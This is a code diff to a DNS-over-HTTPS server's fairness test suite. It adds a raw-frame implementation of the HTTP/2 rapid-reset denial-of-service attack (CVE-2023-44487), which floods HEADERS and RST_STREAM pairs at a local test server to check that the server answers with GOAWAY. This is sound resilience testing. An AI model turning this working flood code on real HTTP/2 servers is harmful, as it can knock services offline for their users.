@@ -86,6 +86,56 @@ async function h2Ask(port: number, from: string, name: string): Promise<number> 
   }
 }
 
+/**
+ * The rapid-reset attacker of CVE-2023-44487, as raw HTTP/2 frames on a TLS connection: after the
+ * preface, batches of HEADERS (a GET, END_STREAM) each followed at once by RST_STREAM (CANCEL).
+ * Node's own client would queue requests past the server's MAX_CONCURRENT_STREAMS and never send
+ * them, so the server would see no more than 100 streams; and its queue would starve this process.
+ * Returns the pairs written and whether the server sent GOAWAY, once the connection is closed or `until` passes.
+ */
+async function rapidReset(port: number, from: string, path: string, until: number, hold: (s: tls.TLSSocket) => void): Promise<{ pairs: number; goaway: boolean }> {
+  let sock: tls.TLSSocket;
+  try {
+    sock = await tlsConnect(port, from, ['h2']);
+  } catch {
+    return { pairs: 0, goaway: false };
+  }
+  hold(sock);
+  const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
+    const h = Buffer.alloc(9);
+    h.writeUIntBE(payload.length, 0, 3);
+    h[3] = type;
+    h[4] = flags;
+    h.writeUInt32BE(stream, 5);
+    return Buffer.concat([h, payload]);
+  };
+  // HPACK (RFC 7541): static-table :method GET (2), :scheme https (7); :path and :authority literal, not indexed.
+  const literal = (nameIndex: number, value: string): Buffer => Buffer.concat([Buffer.from([nameIndex, value.length]), Buffer.from(value)]);
+  const block = Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, path), literal(0x01, 'dns.test')]);
+  const cancel = Buffer.from([0, 0, 0, 8]);
+  let goaway = false;
+  let inbox = Buffer.alloc(0);
+  sock.on('data', (d: Buffer) => {
+    inbox = Buffer.concat([inbox, d]);
+    while (inbox.length >= 9 && inbox.length >= 9 + inbox.readUIntBE(0, 3)) {
+      if (inbox[3] === 0x7) goaway = true;
+      if (inbox[3] === 0x4 && !(inbox[4]! & 1)) sock.write(frame(0x4, 1, 0, Buffer.alloc(0))); // ACK the server's SETTINGS
+      inbox = inbox.subarray(9 + inbox.readUIntBE(0, 3));
+    }
+  });
+  sock.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(0x4, 0, 0, Buffer.alloc(0))]));
+  let pairs = 0;
+  for (let id = 1; !sock.destroyed && Date.now() < until; ) {
+    const batch: Buffer[] = [];
+    for (let i = 0; i < 100; i++, id += 2, pairs++) batch.push(frame(0x1, 0x5, id, block), frame(0x3, 0, id, cancel));
+    // Wait for the socket to take it: a flood that outruns the kernel's buffer only measures this process.
+    if (!sock.write(Buffer.concat(batch))) await new Promise((r) => sock.once('drain', r).once('close', r));
+    await new Promise((r) => setImmediate(r));
+  }
+  sock.destroy();
+  return { pairs, goaway };
+}
+
 function h1Ask(port: number, from: string, name: string): Promise<number> {
   return new Promise((resolve, reject) => {
     const req = https.get({ host: '127.0.0.1', port, localAddress: from, agent: false, path: `/dns-query?dns=${dnsParam(name)}`, ...TLS }, (res) => {
@@ -237,28 +287,15 @@ t.test('listener fairness: DoT handshake flood, DoT full of idle sessions, DoH r
     attack: (until) =>
       Promise.all(Array.from({ length: 12 }, () =>
         loop(until, async () => {
-          const s = hold(await h2Session(child.dohPort, '127.0.25.1'));
-          s.once('goaway', () => goaways++);
-          const path = `/dns-query?dns=${dnsParam('reset.example.test')}`;
-          while (!s.closed && !s.destroyed && Date.now() < until) {
-            try {
-              for (let i = 0; i < 100; i++) {
-                const req = s.request({ ':method': 'GET', ':path': path });
-                req.on('error', () => {});
-                req.close(http2.constants.NGHTTP2_CANCEL);
-                pairs++;
-              }
-            } catch {
-              break; // GOAWAY'd: a new connection
-            }
-            await new Promise((r) => setImmediate(r));
-          }
-          s.destroy();
+          const r = await rapidReset(child.dohPort, '127.0.25.1', `/dns-query?dns=${dnsParam('reset.example.test')}`, until, hold);
+          pairs += r.pairs;
+          if (r.goaway) goaways++;
           await new Promise((r) => setTimeout(r, 20));
         }),
       )),
   });
   t.comment(`DoH rapid reset: ${pairs} HEADERS+RST_STREAM pairs sent, ${goaways} GOAWAYs received`);
+  if (only.includes('3')) t.ok(goaways > 0, 'the rapid-reset connections got GOAWAY (ENHANCE_YOUR_CALM)');
   await closeAll();
 
   // 4. HTTP/1.1 dripped a byte every 250 ms: 180 connections' headers, 20 connections' chunked bodies (10 addresses).
